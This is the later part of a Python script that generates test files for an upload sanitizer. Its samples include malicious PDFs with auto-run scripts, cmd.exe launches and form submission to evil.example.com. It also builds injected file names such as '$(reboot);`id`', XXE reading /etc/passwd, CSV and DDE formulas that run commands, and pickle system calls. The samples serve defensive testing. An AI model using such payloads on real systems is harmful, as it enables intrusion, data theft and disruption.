    colours = words.ljust(3 * 256, b" ")[: 3 * 256]
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 1, 1, 0xF7, 0, 0)
        + colours
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
        + b"\x08\x03\x00\x03\x05\x04\x00\x3b"
    )


def pdfs() -> list[Case]:
    def clean(label, change=None, absent=(), **options):
        return Case(f"PDF {label}", "лист.pdf", lambda: pdf(change, **options), CLEAN, absent=absent)

    def refused(label, make):
        return Case(f"PDF {label}", "лист.pdf", make, REFUSED)

    def page_action(event):
        return at_page(AA=D({f"/{event}": script()}))

    return [
        clean("as it is"),
        clean("of ten pages", pages=10),
        clean("with packed objects", object_stream_mode=pikepdf.ObjectStreamMode.generate),
        clean("ready for the web", linearize=True),
        clean("that runs a script when opened", at_root(OpenAction=script()), (b"app.alert",)),
        clean("with a script among its names", named_script, (b"app.alert",)),
        clean("with a script when a page is opened", page_action("O"), (b"app.alert",)),
        clean("with a script when a page is closed", page_action("C"), (b"app.alert",)),
        clean("with a script before printing", at_root(AA=D(WP=script())), (b"app.alert",)),
        clean("with a script in a field", form_script, (b"AFevil",)),
        clean("with a script in a chain", at_root(OpenAction=D(S=N.GoTo, D=A([0, N.Fit]), Next=script())), (b"app.alert",)),
        clean("that starts a program", at_root(OpenAction=D(S=N.Launch, F=S("cmd.exe"))), (b"cmd.exe",)),
        clean("that starts a program from a link", with_annotation(Subtype=N.Link, A=D(S=N.Launch, F=S("cmd.exe"))), (b"cmd.exe",)),
        clean("with a script in a link", with_annotation(Subtype=N.Link, A=script()), (b"app.alert",)),
        clean(
            "that sends a form",
            with_annotation(Subtype=N.Link, A=D(S=N.SubmitForm, F=S("https://evil.example.com"))),
            (b"evil.example.com",),
        ),
        clean("that brings data", at_root(OpenAction=D(S=N.ImportData, F=S("evil.fdf"))), (b"evil.fdf",)),
        clean("that opens another document", at_root(OpenAction=D(S=N.GoToR, F=S("//evil/share"))), (b"//evil",)),
        clean("that opens an embedded document", with_annotation(Subtype=N.Link, A=D(S=N.GoToE, F=S("evil.pdf"))), (b"evil.pdf",)),
        clean("with a program inside", embedded, (b"EVIL-PROGRAM", b"evil.exe")),
        clean("with a file in a note", with_annotation(Subtype=N.FileAttachment, FS=D(F=S("evil.exe"))), (b"evil.exe",)),
        clean("with an associated file", at_root(AF=A([D(F=S("evil.exe"))])), (b"evil.exe",)),
        clean("with a form of XFA", xfa, (b"xfa-evil",)),
        clean("with rich media", with_annotation(Subtype=N.RichMedia, RichMediaContent=D(X=S("evil.swf"))), (b"evil.swf",)),
        clean("with a film", with_annotation(Subtype=N.Movie, Movie=D(F=S("evil.mov"))), (b"evil.mov",)),
        clean(
            "with a screen that plays", with_annotation(Subtype=N.Screen, A=D(S=N.Rendition, JS=S("evil-rendition"))), (b"evil-rendition",)
        ),
        clean("with a 3D scene", with_annotation(Subtype=N("/3D"), **{"3DD": S("evil-3d")}), (b"evil-3d",)),
        clean("with a sound", with_annotation(Subtype=N.Sound, Sound=S("evil-sound")), (b"evil-sound",)),
        clean("with its author", info, (*AUTHOR, b"SECRET-TITLE")),
        clean("with its author in XMP", xmp, AUTHOR),
        clean("with private data of a program", at_page(PieceInfo=D(Evil=D(Private=S("IVANENKO")))), AUTHOR),
        clean("with a thumbnail of a page", at_page(Thumb=D(X=S("evil-thumb"))), (b"evil-thumb",)),
        clean("with a link to a site", link_to("https://police.example.com/"), ()),
        clean("with a link that is a script", link_to("javascript:alert(1)"), (b"javascript:",)),
        clean("with a link to a file", link_to("file:///etc/passwd"), (b"/etc/passwd",)),
        clean("with a link of data", link_to("data:text/html,evil-data"), (b"evil-data",)),
        clean("with an outline that runs a script", at_root(Outlines=D(First=D(Title=S("x"), A=script()))), (b"app.alert",)),
        clean("with a photograph that knows its place", image_with_exif, (b"GPSDATE", b"kanatna")),
        clean("signed by КЕП: the signature is said to be lost", signed, (b"adbe.pkcs7",)),
        clean("with names written as codes (#4a#53)", None, ()),
        Case(
            "PDF with coded names of a script",
            "лист.pdf",
            lambda: pdf(at_root(OpenAction=script())).replace(b"/OpenAction", b"/Open#41ction").replace(b"/JavaScript", b"/Java#53cript"),
            CLEAN,
            absent=(b"app.alert",),
        ),
        Case(
            "PDF with two versions of itself",
            "лист.pdf",
            lambda: pdf(at_root(OpenAction=script())) + b"\n%%EOF\n",
            CLEAN,
            absent=(b"app.alert",),
        ),
        Case("PDF whose table is damaged, pages alive", "лист.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), CLEAN),
        Case("PDF without its end", "лист.pdf", lambda: pdf()[:-6], CLEAN),
        refused("with a password", lambda: encrypted(user="secret")),
        refused("with an owner's password", lambda: encrypted(user="")),
        refused("with an old cipher", lambda: encrypted(user="x", R=3, aes=False, metadata=False)),
        refused("cut in half", lambda: pdf()[: len(pdf()) // 3]),
        refused("that is a head alone", lambda: b"%PDF-1.7\n%%EOF"),
        refused("that is nonsense", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF"),
        refused("without pages", lambda: plain_pdf(b"1 0 obj\n<</Type/Catalog>>\nendobj")),
        refused("whose pages run in a ring", lambda: pdf(page_loop)),
        refused(
            "whose tables run in a ring",
            lambda: b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF\n",
        ),
        refused("whose root points at itself", lambda: plain_pdf(b"1 0 obj\n1 0 R\nendobj")),
        refused("with arrays a hundred thousand deep", lambda: plain_pdf(b"1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj")),
        refused("with pages two thousand deep", lambda: pdf(deep_tree)),
        refused("of version nothing", lambda: b"%PDF-" + b"\0" * 300),
        refused(
            "with a page within XFA only",
            lambda: plain_pdf(
                b"1 0 obj\n<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>\nendobj\n2 0 obj\n<</Length 3>>stream\nabc\nendstream endobj"
            ),
        ),
    ]


def names() -> list[Case]:
    good = lambda: saved("JPEG")  # noqa: E731
    spoilt = {
        "a path up": "../../../../etc/cron.d/evil.jpg",
        "a path of Windows": "C:\\Windows\\evil.jpg",
        "a nul": "фото.php\0.jpg",
        "right to left": "звіт\u202egpj.exe",
        "300 letters": "я" * 300 + ".jpg",
        "two extensions": "фото.php.jpg",
        "an extension of a page": "фото.html",
        "an extension of a program": "фото.exe",
        "htaccess": ".htaccess",
        "nothing but dots": "...",
        "no name": " ",
        "a new line": 'a"\r\nSet-Cookie: x=1.jpg',
        "marks of HTML": "<img src=x onerror=alert(1)>.jpg",
        "a device of Windows": "CON.jpg",
        "unseen letters": "фо\u200bто\ufeff.jpg",
        "combining marks": "z" + "\u0301" * 200 + ".jpg",
        "surrogates": "фото\udcff.jpg",
        "a command": "$(reboot);`id`|x.jpg",
        "only an extension": ".jpg",
        "a percent path": "%2e%2e%2fevil.jpg",
        "a stream of NTFS": "фото.jpg::$DATA",
    }
    return [Case(f"name: {label}", name, good, CLEAN) for label, name in spoilt.items()]


def pretenders() -> list[Case]:
    contents = {
        "nothing": b"",
        "one byte": b"\xff",
        "a page": HTML,
        "a page with a mark of order": b"\xef\xbb\xbf" + HTML,
        "a page of UTF-16": HTML.decode().encode("utf-16"),
        "SVG": SVG % b"",
        "SVG with a script": SVG % SCRIPT,
        "SVG with a foreign object": SVG % b"<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
        "SVG with an entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "SVG packed": zlib.compress(SVG % SCRIPT),
        "a billion laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>',
        "PHP": PHP,
        "a phar": PHP + b"\x17\0\0\0",
        "htaccess": b"AddType application/x-httpd-php .jpg\n",
        "a text as of an antivirus test": EICAR_LIKE,
        "a program of Windows": b"MZ\x90\0" + b"\0" * 400,
        "a program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 400,
        "a class of Java": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 40,
        "a shell script": b"#!/bin/sh\nreboot\n",
        "a Python pickle": b"\x80\x04cos\nsystem\n",
        "JSON": b'{"a": 1}',
        "plain words": "Просто текст".encode(),
        "noughts": b"\0" * 5000,
        "an old Word": OLE,
        "RTF": rb"{\rtf1{\object\objdata evil}}",
        "a shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
        "an archive": archive({"a.txt": b"x"}),
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 50,
        "RAR": b"Rar!\x1a\x07\x01\0" + b"\0" * 50,
        "an mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 200,
        "a fake HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200,
        "a Flash film": b"FWS\x09" + b"\0" * 60,
        "a font": b"\0\x01\0\0\0\x0c\x80\0" + b"\0" * 60,
        "a database": b"SQLite format 3\0" + b"\0" * 200,
        "a JPEG's head alone": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
        "a PNG's head alone": PNG_HEAD,
        "a docx of a resident": docx(),
    }
    rows = [Case(f"{label} named jpg", "фото.jpg", lambda data=data: data, REFUSED) for label, data in contents.items()]
    rows += [Case(f"{label} named pdf", "лист.pdf", lambda data=data: data, REFUSED) for label, data in list(contents.items())[2:12]]
    rows += [
        Case("SVG named svg", "знак.svg", lambda: SVG % SCRIPT, REFUSED),
        Case("SVG of an editor", "знак.svg", lambda: SVG % SCRIPT, REFUSED, "editor"),
        Case("JPEG cut in half", "фото.jpg", lambda: saved("JPEG")[:300], REFUSED),
        Case("JPEG without its first bytes", "фото.jpg", lambda: saved("JPEG")[2:], REFUSED),
        Case("PNG cut in half", "фото.png", lambda: saved("PNG")[:70], REFUSED),
        Case("PNG without its end", "фото.png", lambda: png(4, 4, raw=b"\0" * 52, end=False), CLEAN),
        Case("PNG with a wrong sum", "фото.png", lambda: saved("PNG").replace(b"IHDR", b"IHDS"), REFUSED),
        Case("PNG named jpg", "фото.jpg", lambda: saved("PNG"), CLEAN),
        Case("JPEG named png", "фото.png", lambda: saved("JPEG"), CLEAN),
        Case("JPEG named pdf", "лист.pdf", lambda: saved("JPEG"), CLEAN),
        Case("PDF named jpg", "фото.jpg", pdf, CLEAN),
        Case("PDF named html", "лист.html", pdf, CLEAN),
    ]
    return rows


P7S = b"\x30\x0f\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x02\x30\x00"


def documents() -> list[Case]:
    def editor(label, name, make, verdict, absent=()):
        return Case(f"editor: {label}", name, make, verdict, "editor", absent)

    template = RELATION % (9, "attachedTemplate", "https://evil.example.com/x.dotm", ' TargetMode="External"')
    link = RELATION % (9, "hyperlink", "https://police.example.com/", ' TargetMode="External"')
    return [
        editor("docx", "наказ.docx", docx, CLEAN, AUTHOR),
        editor("docx with a link to a site", "наказ.docx", lambda: docx(relations=link), CLEAN),
        editor("docm", "наказ.docm", lambda: docx(WORD_MACRO), REFUSED),
        editor("docm named docx", "наказ.docx", lambda: docx(WORD_MACRO), REFUSED),
        editor("docx with macros", "наказ.docx", lambda: docx(extra={"word/vbaProject.bin": OLE}), REFUSED),
        editor("docx with a template from elsewhere", "наказ.docx", lambda: docx(relations=template), REFUSED),
        editor("docx with an embedded object", "наказ.docx", lambda: docx(extra={"word/embeddings/oleObject1.bin": OLE}), REFUSED),
        editor("docx with a control", "наказ.docx", lambda: docx(extra={"word/activeX/activeX1.bin": OLE}), REFUSED),
        editor(
            "docx with a field that runs programs",
            "наказ.docx",
            lambda: docx(body=BODY.replace(b"<w:p/>", b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>")),
            REFUSED,
        ),
        editor(
            "docx with an entity",
            "наказ.docx",
            lambda: docx(body=b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'),
            REFUSED,
        ),
        editor("docx with a path up", "наказ.docx", lambda: docx(extra={"../../evil.sh": b"x"}), REFUSED),
        editor("docx with a program", "наказ.docx", lambda: docx(extra={"word/evil.exe": b"MZ"}), REFUSED),
        editor("docx with a page behind it", "наказ.docx", lambda: docx() + HTML, CLEAN, (SCRIPT,)),
        editor("docx with a page before it", "наказ.docx", lambda: HTML + docx(), REFUSED),
        editor("docx of 3000 parts", "наказ.docx", lambda: docx(extra={f"word/{n}.xml": b"<a/>" for n in range(3000)}), REFUSED),
        editor("docx without a document", "наказ.docx", lambda: archive({"a.xml": b"<a/>"}), REFUSED),
        editor("odt", "наказ.odt", odt, CLEAN),
        editor("odt with macros", "наказ.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<x/>"}), REFUSED),
        editor("odt with scripts", "наказ.odt", lambda: odt({"Scripts/python/evil.py": b"x"}), REFUSED),
        editor("an old Word", "наказ.doc", lambda: OLE, REFUSED),
        editor("csv", "дані.csv", lambda: "назва;число\nдвір;5\n".encode(), CLEAN),
        editor("csv that computes", "дані.csv", lambda: b"a;=cmd|'/c calc'!A0\n", REFUSED),
        editor("csv that is a page", "дані.csv", lambda: HTML, REFUSED),
        editor("csv of bytes", "дані.csv", lambda: b"\xff\xfe\0\0" * 40, REFUSED),
        editor("zip", "дані.zip", lambda: archive({"a.txt": b"x"}), REFUSED),
        editor("a signature .p7s", "лист.p7s", lambda: P7S, CLEAN),
        editor("a signature with a page behind it", "лист.p7s", lambda: P7S + HTML, REFUSED),
        editor("a page named .p7s", "лист.p7s", lambda: HTML, REFUSED),
        editor("PDF with a script", "наказ.pdf", lambda: pdf(at_root(OpenAction=script())), CLEAN, (b"app.alert",)),
        editor("a picture among documents", "фото.jpg", lambda: saved("JPEG", exif=exif(gps=True)), CLEAN, PLACE),
    ]


@cache
def cases() -> list[Case]:
    return [*pictures(), *metadata(), *bombs(), *polyglots(), *pdfs(), *names(), *pretenders(), *documents()]


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate(cases(), 1):
        (folder / f"{number:03}-{case.verdict}{Path(case.name.replace(chr(0), '')).suffix[:8]}").write_bytes(case.make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
